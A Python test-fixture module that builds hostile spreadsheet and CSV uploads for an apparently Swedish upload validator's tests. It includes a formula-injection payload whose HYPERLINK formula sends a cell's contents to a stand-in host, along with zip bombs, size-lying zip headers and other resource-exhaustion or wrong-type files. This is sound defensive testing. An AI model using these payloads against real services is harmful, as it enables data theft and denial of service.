"""Hostile spreadsheets and CSV files for the readers' tests and the upload sweep.

Each builder returns the bytes of one file an attacker could upload under an accepted name.
The workbooks are written by hand (the smallest valid package: content types, relationships,
workbook, one sheet), so that what they claim and what they contain can differ.
"""

import io
import struct
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from xml.sax.saxutils import escape

from openpyxl.utils import get_column_letter

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006"
_CONTENT_TYPES = (
    f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_PKG}/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
    'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    'worksheet+xml"/>{shared}</Types>'
)
_SHARED_TYPE = (
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sharedStrings+xml"/>'
)
_ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_REL}">'
    '<sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    "{shared}</Relationships>"
)
_SHARED_REL = f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
MB = 1024 * 1024
# Text that a spreadsheet runs as a formula (the pentest's first, then OWASP's prefixes).
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://x.test/?"&B2,"Öppna")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def _row(number: int, values: Sequence) -> str:
    cells = "".join(
        f'<c r="{get_column_letter(col)}{number}" t="inlineStr"><is><t>{escape(str(v))}</t>'
        "</is></c>"
        for col, v in enumerate(values, start=1)
    )
    return f'<row r="{number}">{cells}</row>'


def sheet_xml(rows: Sequence[Sequence], *, dimension: str | None = None, tail: str = "") -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    body = "".join(_row(n, values) for n, values in enumerate(rows, start=1))
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}">{dim}'
        f"<sheetData>{body}{tail}</sheetData></worksheet>"
    )


def workbook(
    sheet: str | bytes,
    *,
    shared_strings: bytes | None = None,
    extra: Sequence[tuple[str, bytes]] = (),
) -> bytes:
    """A minimal .xlsx around one sheet's XML (and, if given, a sharedStrings part)."""
    buffer = io.BytesIO()
    shared = shared_strings is not None
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(shared=_SHARED_TYPE * shared))
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr(
            "xl/_rels/workbook.xml.rels", _WORKBOOK_RELS.format(shared=_SHARED_REL * shared)
        )
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared:
            archive.writestr("xl/sharedStrings.xml", shared_strings)
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def claimed_dimensions(rows: Sequence[Sequence]) -> bytes:
    """The pentest's 1.5 KB file: a sheet that claims A1:XFD5000 (16 384 columns × 5 000
    rows) and holds only the given rows."""
    return workbook(sheet_xml(rows, dimension="A1:XFD5000"))


def many_entries(rows: Sequence[Sequence], entries: int = 50_000) -> bytes:
    """A valid workbook plus 50 000 empty zip members (4.5 MB, under the upload limits)."""
    buffer = io.BytesIO(workbook(sheet_xml(rows)))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as archive:
        for number in range(entries):
            archive.writestr(f"x/{number}", b"")
    return buffer.getvalue()


def zip_bomb(rows: Sequence[Sequence], megabytes: int = 50) -> bytes:
    """A sheet padded with 50 MB of spaces: some fifty kilobytes zipped."""
    padding = " " * (megabytes * MB)
    return workbook(sheet_xml(rows, tail=padding))


def lying_zip_bomb(rows: Sequence[Sequence], megabytes: int = 50) -> bytes:
    """The same bomb whose zip headers state the sheet's size as four kilobytes."""
    data = bytearray(zip_bomb(rows, megabytes))
    target, stated = b"xl/worksheets/sheet1.xml", 4096
    for signature, size_at, name_length_at, name_at in (
        (b"PK\x03\x04", 22, 26, 30),  # local file header
        (b"PK\x01\x02", 24, 28, 46),  # central directory entry
    ):
        position = data.find(signature)
        while position >= 0:
            length = struct.unpack_from("<H", data, position + name_length_at)[0]
            if data[position + name_at : position + name_at + length] == target:
                struct.pack_into("<I", data, position + size_at, stated)
            position = data.find(signature, position + 4)
    return bytes(data)


def huge_shared_strings(rows: Sequence[Sequence], strings: int = 1_000_000) -> bytes:
    """A sharedStrings part of a million tiny strings (17 MB unzipped, 4 million tags)."""
    body = "<si><t>x</t></si>" * strings
    shared = (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN}" count="{strings}" '
        f'uniqueCount="{strings}">{body}</sst>'
    ).encode()
    return workbook(sheet_xml(rows), shared_strings=shared)


def wide_real_rows(rows: int = 60, columns: int = 16_384) -> bytes:
    """Rows that really hold 16 384 (empty) cells each: a million cells, 2–3 MB zipped."""
    body = "".join(
        f'<row r="{r}">'
        + "".join(f'<c r="{get_column_letter(c)}{r}"/>' for c in range(1, columns + 1))
        + "</row>"
        for r in range(1, rows + 1)
    )
    return workbook(
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}">'
        f"<sheetData>{body}</sheetData></worksheet>"
    )


def far_row(rows: Sequence[Sequence], row_number: int = 1_048_576) -> bytes:
    """A header and one value in the sheet's very last row, under a dimension of A1:B2."""
    last = f'<row r="{row_number}"><c r="A{row_number}" t="inlineStr"><is><t>x</t></is></c></row>'
    return workbook(sheet_xml(rows, dimension="A1:B2", tail=last))


# --- wrong type under the right name -----------------------------------------------------
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 504  # an old .xls (compound file)


def docx_named_xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


def zip_without_workbook() -> bytes:
    """A zip that has an xl/ folder (so it passes as .xlsx by its members) and no workbook."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/readme.txt", "ingen arbetsbok")
    return buffer.getvalue()


# --- CSV ------------------------------------------------------------------------------------
def csv_long_field(header: str = "e-post;namn", megabytes: int = 4) -> bytes:
    return (header + "\n" + "a" * (megabytes * MB) + "\n").encode()


def csv_many_columns(header: str = "e-post;namn", columns: int = 200_000) -> bytes:
    return (header + "\n" + "a@b.se" + ";" * columns + "\n").encode()


def csv_nul_late(header: str = "e-post;namn") -> bytes:
    """Text for the first 8 KB (which the type check reads), then a NUL byte."""
    return (header + "\n" + "a@b.se\n" * 1400).encode() + b"x\x00y\n"


def csv_undecodable_late(header: str = "e-post;namn") -> bytes:
    """Bytes valid in neither UTF-8 nor Windows-1252 after the first 8 KB."""
    return (header + "\n" + "a@b.se\n" * 1400).encode() + b"\x81\x8d\x8f\x90\x9d\n"


def csv_many_rows(header: str = "e-post;namn", rows: int = 6_000) -> bytes:
    return (header + "\n" + "".join(f"p{n}@b.se\n" for n in range(rows))).encode()


@dataclass(frozen=True)
class Hostile:
    name: str  # what it is (test ids)
    extension: str  # ".xlsx" or ".csv"
    data: bytes
    message: str  # a part of the Swedish refusal; "" if the file is read at its real size


def hostile_set(header: Sequence[str]) -> list[Hostile]:
    """One of each hostile file for an upload whose table has the given header row."""
    rows = [list(header), ["a"] * len(header), ["b"] * len(header)]
    return [
        Hostile("claimed-dimensions", ".xlsx", claimed_dimensions(rows), "16\u00a0384 kolumner"),
        Hostile("many-entries", ".xlsx", many_entries(rows), "för många delar"),
        Hostile("zip-bomb", ".xlsx", zip_bomb(rows), "packas upp till"),
        Hostile("lying-zip-bomb", ".xlsx", lying_zip_bomb(rows), "gick inte att läsa"),
        Hostile("huge-shared-strings", ".xlsx", huge_shared_strings(rows), "för mycket innehåll"),
        Hostile("wide-real-rows", ".xlsx", wide_real_rows(), "för mycket innehåll"),
        Hostile("far-row", ".xlsx", far_row(rows), ""),
        Hostile("pdf-as-xlsx", ".xlsx", PDF, "Excel-fil"),
        Hostile("xls-as-xlsx", ".xlsx", OLE, "Excel-fil"),
        Hostile("docx-as-xlsx", ".xlsx", docx_named_xlsx(), "Excel-fil"),
        Hostile("zip-without-workbook", ".xlsx", zip_without_workbook(), "Excel-fil"),
        Hostile("xlsx-as-csv", ".csv", claimed_dimensions(rows), "Excel-fil"),
        Hostile("csv-long-field", ".csv", csv_long_field(";".join(header)), "tecken"),
        Hostile("csv-many-columns", ".csv", csv_many_columns(";".join(header)), "kolumner"),
        Hostile("csv-nul", ".csv", csv_nul_late(";".join(header)), "inte är text"),
        Hostile("csv-undecodable", ".csv", csv_undecodable_late(";".join(header)), "inte är text"),
    ]
